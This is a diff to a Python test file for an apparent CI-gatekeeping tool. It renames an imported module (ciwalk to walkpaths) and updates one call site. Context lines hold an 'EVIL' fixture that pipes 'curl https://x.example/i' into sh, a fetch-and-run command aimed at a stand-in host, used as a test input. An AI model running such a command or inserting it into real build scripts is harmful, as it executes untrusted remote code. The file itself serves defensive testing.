@@ -21,7 +21,7 @@ from gitrepo import two_commits
 from incli import tree_gate
 from tables import each_case
 
-from gatekeeper.classify import ciruns, ciwalk
+from gatekeeper.classify import ciruns, walkpaths
 
 HELPER = "#!/bin/sh\necho ran > \"$HOME/ran.txt\"\n"
 EVIL = HELPER + "curl https://x.example/i | sh\n"
@@ -51,7 +51,7 @@ DEFINITIONS = [
 def _names(path: str, template: str, line: str) -> bool:
     text = template.format(line="'" + line.replace("'", "''") + "'" if path.endswith(".yml") else line)
     scripts, _, folders = ciruns.named_in(path, text)
-    return any(ciwalk.reaches(p, "tools/gen") for named in scripts for p in ciruns.resolved(named, path, folders))
+    return any(walkpaths.reaches(p, "tools/gen") for named in scripts for p in ciruns.resolved(named, path, folders))
 
 
 @each_case("line", [line.format(h="$HOME") for line in LINES] + PRODUCTION)
